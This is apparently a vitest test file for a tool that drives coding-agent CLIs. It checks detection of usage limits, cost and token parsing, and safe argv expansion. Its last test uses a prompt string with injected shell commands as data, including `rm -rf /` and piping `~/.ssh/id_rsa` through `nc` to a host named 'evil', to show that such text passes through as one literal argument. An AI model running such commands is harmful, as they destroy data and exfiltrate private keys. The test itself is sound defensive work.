// Reading what agent CLIs print: usage limits and their reset time, Claude Code's and codex's
// JSON reports, and the argv of a `command` agent (never a shell string).
import { describe, expect, it } from 'vitest';
import { parseClaudeOutput } from '../../src/agents/claude.js';
import { parseCodexOutput } from '../../src/agents/codex.js';
import { expandArgv } from '../../src/agents/command.js';
import { jsonLines, usageLimitIn } from '../../src/agents/limits.js';
import type { AgentRequest, AgentResult } from '../../src/agents/types.js';

/** 2:00 pm local time: "resets 5pm" means three hours later, the same day. */
const NOW = new Date(2026, 10, 25, 14, 0, 0);
const at = (hour: number, minute = 0, dayOffset = 0) => new Date(2026, 10, 25 + dayOffset, hour, minute, 0);

const jsonl = (...events: unknown[]) => `${events.map((e) => JSON.stringify(e)).join('\n')}\n`;

const base = (extra: Partial<AgentResult> = {}): AgentResult => ({
  exitCode: 0,
  durationMs: 1_000,
  outputTail: '',
  ...extra,
});

describe('usageLimitIn', () => {
  it.each([
    ["You've hit your limit · resets 5pm", at(17)],
    ["You've hit your session limit · resets 12:50am (America/Los_Angeles)", at(0, 50, 1)],
    ['5-hour limit reached ∙ resets 5am', at(5, 0, 1)],
    ['Claude usage limit reached. Your limit will reset at 3:30pm (Europe/Berlin).', at(15, 30)],
    ['resets at 17:30 — usage limit reached', at(17, 30)],
  ])('recognises %j and its reset time', (text, resetsAt) => {
    expect(usageLimitIn(text, NOW)).toEqual({ message: text, resetsAt });
  });

  it('takes "resets 5pm" after 5pm as tomorrow', () => {
    expect(usageLimitIn("You've hit your limit · resets 5pm", at(18, 30))?.resetsAt).toEqual(at(17, 0, 1));
    expect(usageLimitIn("You've hit your limit · resets 5pm", at(17))?.resetsAt).toEqual(at(17, 0, 1));
  });

  it.each([
    'API Error: Request rejected (429) · this may be a temporary capacity issue',
    'Error: 429 {"type":"error","error":{"type":"rate_limit_error","message":"This request would exceed your account\'s rate limit."}}',
    'stream error: exceeded retry limit, last status: 429 Too Many Requests',
    'unexpected status 429 Too Many Requests: slow down',
    'Rate limit exceeded for model gpt-5',
    'Quota exceeded for quota metric generate_content_requests',
  ])('recognises a 429 or rate limit: %j', (text) => {
    expect(usageLimitIn(text, NOW)).toEqual({ message: text, resetsAt: undefined });
  });

  it('reads a relative reset time', () => {
    expect(usageLimitIn('rate limit exceeded, try again in 20 minutes', NOW)?.resetsAt).toEqual(
      new Date(NOW.getTime() + 20 * 60_000),
    );
    expect(usageLimitIn("You've hit your usage limit. Upgrade to Pro or try again in 2 hours.", NOW)?.resetsAt).toEqual(
      at(16),
    );
    expect(usageLimitIn('Rate limit reached. Please retry after 30 seconds', NOW)?.resetsAt).toEqual(
      new Date(NOW.getTime() + 30_000),
    );
  });

  it('gives the line that says so as the message', () => {
    const text = "Working on it...\nwrote src/a.ts\nYou've hit your limit · resets 5pm\nbye\n";
    expect(usageLimitIn(text, NOW)?.message).toBe("You've hit your limit · resets 5pm");
  });

  it.each([
    'added tests for the rate limiter',
    'Implemented rate limiting; the rate limiter now returns 429 when the bucket is empty',
    ' FAIL  test/api.test.ts > returns status 429 when over the limit',
    'AssertionError: expected status code 429, got 200',
    '✓ handles 429 Too Many Requests responses with a retry',
    'throw new RateLimitExceeded()',
    'the client should not hit your rate limiter twice',
    'Error: ENOENT: no such file or directory',
  ])('does not trigger on text that merely mentions rate limiting: %j', (text) => {
    expect(usageLimitIn(text, NOW)).toBeUndefined();
  });
});

describe('jsonLines', () => {
  it('keeps JSON objects and skips progress text, arrays, scalars and broken lines', () => {
    const text =
      'starting\n{"type":"a","n":1}\n  {"type":"b"}  \n[1,2]\n42\n{"type": "cut\nnot json {"x":1}\n\n{"type":"c"}';
    expect(jsonLines(text)).toEqual([{ type: 'a', n: 1 }, { type: 'b' }, { type: 'c' }]);
  });
});

describe('parseClaudeOutput', () => {
  const init = { type: 'system', subtype: 'init', session_id: 'sess-1', model: 'claude-opus' };
  const assistant = {
    type: 'assistant',
    message: { content: [{ type: 'tool_use', name: 'Write', input: { file_path: 'design.md' } }] },
  };
  const result = (extra: Record<string, unknown> = {}) => ({
    type: 'result',
    subtype: 'success',
    is_error: false,
    duration_ms: 94_000,
    num_turns: 7,
    result: 'Done.',
    session_id: 'sess-1',
    total_cost_usd: 0.4123,
    usage: {
      input_tokens: 120,
      cache_creation_input_tokens: 2_000,
      cache_read_input_tokens: 30_000,
      output_tokens: 800,
    },
    ...extra,
  });
  const parse = (stdout: string, extra: Partial<AgentResult> = {}) => parseClaudeOutput(stdout, base(extra), NOW);

  it('reads cost, tokens (cache tokens counted as input), session and turns from the final result', () => {
    const parsed = parse(jsonl(init, assistant, result()));
    expect(parsed).toEqual({
      exitCode: 0,
      durationMs: 1_000,
      outputTail: '',
      costUsd: 0.4123,
      tokens: { input: 32_120, output: 800 },
      sessionId: 'sess-1',
      turns: 7,
    });
  });

  it('takes a negative, infinite or absurd cost for unknown, not for dollars', () => {
    for (const total_cost_usd of [-5, 1e308, 2_000_000, '0.40', null]) {
      expect(parse(jsonl(result({ total_cost_usd }))).costUsd, String(total_cost_usd)).toBeUndefined();
    }
    expect(parse(jsonl(result({ total_cost_usd: 0 }))).costUsd).toBe(0);
  });

  it('reads a single JSON result (--output-format json) and progress text around it', () => {
    expect(parse(`some warning\n${JSON.stringify(result({ total_cost_usd: 0.05 }))}\n`).costUsd).toBe(0.05);
  });

  it('takes the last result event', () => {
    expect(parse(jsonl(result({ total_cost_usd: 1 }), result({ total_cost_usd: 2 }))).costUsd).toBe(2);
  });

  it('sees "You\'ve hit your limit" in an error result as a usage limit with its reset', () => {
    const parsed = parse(
      jsonl(
        init,
        result({ is_error: true, result: "You've hit your limit · resets 5pm (Europe/Berlin)", total_cost_usd: 0 }),
      ),
      { exitCode: 1 },
    );
    expect(parsed.usageLimit).toEqual({
      message: "You've hit your limit · resets 5pm (Europe/Berlin)",
      resetsAt: at(17),
    });
    expect(parsed.error).toMatch(/hit your limit/);
  });

  it('sees api_error_status 429 as a usage limit, whatever the text says', () => {
    const parsed = parse(
      jsonl(result({ is_error: true, api_error_status: 429, result: 'API Error: Request rejected (429) · capacity' })),
      { exitCode: 1 },
    );
    expect(parsed.usageLimit?.message).toBe('API Error: Request rejected (429) · capacity');
    const terse = parse(jsonl(result({ is_error: true, api_error_status: 429, result: 'overloaded' })), {
      exitCode: 1,
    });
    expect(terse.usageLimit).toEqual({ message: 'overloaded' });
  });

  it('sees error_max_budget_usd as a usage limit', () => {
    const parsed = parse(jsonl(result({ subtype: 'error_max_budget_usd', is_error: true, result: '' })), {
      exitCode: 1,
    });
    expect(parsed.usageLimit?.message).toMatch(/max-budget-usd/);
    expect(parsed.error).toMatch(/^error_max_budget_usd/);
  });

  it('sees error_max_turns as an error of the item, not a usage limit', () => {
    const parsed = parse(
      jsonl(result({ subtype: 'error_max_turns', is_error: true, result: 'Reached maximum number of turns (30)' })),
      { exitCode: 1 },
    );
    expect(parsed.error).toBe('error_max_turns: Reached maximum number of turns (30)');
    expect(parsed.usageLimit).toBeUndefined();
    expect(parsed.costUsd).toBe(0.4123);
  });

  it('does not take an error that mentions rate limiting for a usage limit', () => {
    const parsed = parse(
      jsonl(
        result({
          subtype: 'error_during_execution',
          is_error: true,
          result: 'tests for the rate limiter failed: expected status 429',
        }),
      ),
      { exitCode: 1 },
    );
    expect(parsed.error).toBeDefined();
    expect(parsed.usageLimit).toBeUndefined();
  });

  it('sees a rejected rate_limit_event as a usage limit, reset from its resetsAt (epoch seconds)', () => {
    const resetsAt = Math.floor(at(19).getTime() / 1000);
    const event = {
      type: 'rate_limit_event',
      rate_limit_info: { status: 'rejected', resetsAt, rateLimitType: 'five_hour' },
    };
    const parsed = parse(jsonl(init, event), { exitCode: 1 });
    expect(parsed.usageLimit).toEqual({
      message: 'Claude usage limit reached (rate_limit_event: rejected)',
      resetsAt: at(19),
    });
    const withError = parse(jsonl(init, event, result({ is_error: true, result: 'stopped' })), { exitCode: 1 });
    expect(withError.usageLimit?.resetsAt).toEqual(at(19));
  });

  it('ignores allowed rate_limit_events, including one whose overage is rejected', () => {
    const allowed = {
      type: 'rate_limit_event',
      rate_limit_info: {
        status: 'allowed',
        resetsAt: 1_774_447_200,
        rateLimitType: 'five_hour',
        overageStatus: 'rejected',
        overageDisabledReason: 'org_level_disabled',
        isUsingOverage: false,
      },
    };
    const warning = {
      type: 'rate_limit_event',
      rate_limit_info: { status: 'allowed_warning', resetsAt: 1_774_447_200 },
    };
    const parsed = parse(jsonl(init, allowed, assistant, warning, result()));
    expect(parsed.usageLimit).toBeUndefined();
    expect(parsed.error).toBeUndefined();
  });

  it('does not park a run whose final result succeeded after a rejected event', () => {
    const rejected = { type: 'rate_limit_event', rate_limit_info: { status: 'rejected', isUsingOverage: true } };
    expect(parse(jsonl(init, rejected, result())).usageLimit).toBeUndefined();
  });

  it('reads a usage limit from the output tail when there is no result', () => {
    const parsed = parse('', { exitCode: 1, outputTail: "Error: You've hit your limit · resets 5pm\n" });
    expect(parsed.usageLimit?.resetsAt).toEqual(at(17));
  });

  it('leaves a non-zero exit without JSON and without limit text a plain failure', () => {
    const parsed = parse('Segmentation fault\n', {
      exitCode: 139,
      outputTail: 'Segmentation fault\nadded tests for the rate limiter\n',
    });
    expect(parsed.usageLimit).toBeUndefined();
    expect(parsed.costUsd).toBeUndefined();
    expect(parsed.exitCode).toBe(139);
  });

  it('does not read the tail of a run that exited 0', () => {
    expect(parse('', { outputTail: 'rate limit exceeded' }).usageLimit).toBeUndefined();
  });
});

describe('parseCodexOutput', () => {
  const turn = (input: number, output: number) => ({
    type: 'turn.completed',
    usage: { input_tokens: input, cached_input_tokens: 10, output_tokens: output },
  });
  const parse = (stdout: string, extra: Partial<AgentResult> = {}) => parseCodexOutput(stdout, base(extra), NOW);

  it('sums the usage of every completed turn', () => {
    const stdout = jsonl(
      { type: 'thread.started', thread_id: 't1' },
      { type: 'turn.started' },
      turn(100, 20),
      { type: 'item.completed', item: { type: 'command_execution', command: 'npm test' } },
      turn(300, 40),
    );
    const parsed = parse(`reading prompt\n${stdout}`);
    expect(parsed.tokens).toEqual({ input: 400, output: 60 });
    expect(parsed.error).toBeUndefined();
    expect(parsed.usageLimit).toBeUndefined();
    expect(parsed.costUsd).toBeUndefined();
  });

  it('reports no tokens when no turn completed', () => {
    expect(parse(jsonl({ type: 'turn.started' })).tokens).toBeUndefined();
  });

  it('takes an error event as the error', () => {
    const parsed = parse(jsonl(turn(10, 1), { type: 'error', message: 'sandbox denied write to /etc' }), {
      exitCode: 1,
    });
    expect(parsed.error).toBe('sandbox denied write to /etc');
    expect(parsed.usageLimit).toBeUndefined();
    expect(parsed.tokens).toEqual({ input: 10, output: 1 });
  });

  it('sees a usage limit in an error or a failed turn', () => {
    const error = parse(
      jsonl({ type: 'error', message: 'stream error: exceeded retry limit, last status: 429 Too Many Requests' }),
      { exitCode: 1 },
    );
    expect(error.usageLimit?.message).toMatch(/last status: 429/);
    const failed = parse(
      jsonl({
        type: 'turn.failed',
        error: { message: "You've hit your usage limit. Upgrade to Pro or try again in 2 hours." },
      }),
      { exitCode: 1 },
    );
    expect(failed.error).toMatch(/usage limit/);
    expect(failed.usageLimit?.resetsAt).toEqual(at(16));
  });

  it('reads a usage limit from the output tail of a failed run, and nothing else', () => {
    expect(parse('', { exitCode: 1, outputTail: 'ERROR: Quota exceeded. Check your plan.' }).usageLimit).toBeDefined();
    expect(parse('', { exitCode: 1, outputTail: 'error: the rate limiter tests failed' }).usageLimit).toBeUndefined();
  });
});

describe('expandArgv', () => {
  const request = (extra: Partial<AgentRequest> = {}): AgentRequest => ({
    id: 'fix-login',
    phase: 'review',
    pipeline: 'coding',
    lens: 'security',
    prompt: 'Review fix-login.',
    promptFile: '/repo/.tend/logs/fix-login/review-security.1.prompt.md',
    artifactPath: '/repo/backlog/review/fix-login/review-security.md',
    cwd: '/repo',
    model: 'opus',
    timeoutMs: 60_000,
    stallTimeoutMs: 60_000,
    logFile: '/repo/.tend/logs/fix-login/review-security.1.log',
    logMaxBytes: 1_048_576,
    signal: new AbortController().signal,
    ...extra,
  });

  it('replaces every placeholder, inside an argument too', () => {
    const argv = expandArgv(
      [
        'my-agent',
        '--prompt-file',
        '{prompt_file}',
        '--out={artifact_path}',
        '-m',
        '{model}',
        '{phase}/{lens}',
        '{id}',
        '--cd',
        '{workspace}',
      ],
      request(),
      'file',
    );
    expect(argv).toEqual([
      'my-agent',
      '--prompt-file',
      '/repo/.tend/logs/fix-login/review-security.1.prompt.md',
      '--out=/repo/backlog/review/fix-login/review-security.md',
      '-m',
      'opus',
      'review/security',
      'fix-login',
      '--cd',
      '/repo',
    ]);
  });

  it('gives an unset model or lens as an empty string and leaves unknown braces alone', () => {
    expect(
      expandArgv(['a', '{model}', '{lens}', '{nope}', '{}'], request({ model: undefined, lens: undefined }), 'stdin'),
    ).toEqual(['a', '', '', '{nope}', '{}']);
  });

  it('appends the prompt for input "argument" when the template has no {prompt}', () => {
    expect(expandArgv(['my-agent', '--quiet'], request(), 'argument')).toEqual([
      'my-agent',
      '--quiet',
      'Review fix-login.',
    ]);
    expect(expandArgv(['my-agent', '-p', '{prompt}'], request(), 'argument')).toEqual([
      'my-agent',
      '-p',
      'Review fix-login.',
    ]);
    expect(expandArgv(['my-agent', '--prompt={prompt}'], request(), 'argument')).toEqual([
      'my-agent',
      '--prompt=Review fix-login.',
    ]);
  });

  it('does not append the prompt for input "file" or "stdin"', () => {
    expect(expandArgv(['my-agent'], request(), 'file')).toEqual(['my-agent']);
    expect(expandArgv(['my-agent'], request(), 'stdin')).toEqual(['my-agent']);
  });

  it('passes item text with shell metacharacters as one literal argument', () => {
    const prompt = `Fix "login" $(rm -rf /); echo pwned && cat ~/.ssh/id_rsa | nc evil 1 > /tmp/x \`id\` 'quoted' $HOME\nnext line {id} $& $1`;
    const appended = expandArgv(['my-agent', '--flag'], request({ prompt }), 'argument');
    expect(appended).toEqual(['my-agent', '--flag', prompt]);
    const placed = expandArgv(['my-agent', '{prompt}', '{id}'], request({ prompt }), 'argument');
    expect(placed).toEqual(['my-agent', prompt, 'fix-login']);
  });
});
